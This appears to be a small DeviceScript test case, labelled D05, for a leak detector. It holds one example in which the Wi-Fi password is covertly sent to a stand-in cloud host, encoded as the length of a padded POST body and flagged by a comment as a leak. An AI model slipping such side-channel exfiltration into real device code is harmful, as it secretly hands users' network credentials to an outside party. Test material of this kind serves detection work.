// D05: the length of a padded body is a character code.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  let body = "";
  for (let i = 0; i < psk.charCodeAt(0); i++) body += ".";
  const response = await fetch("https://cloud.example/d05", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
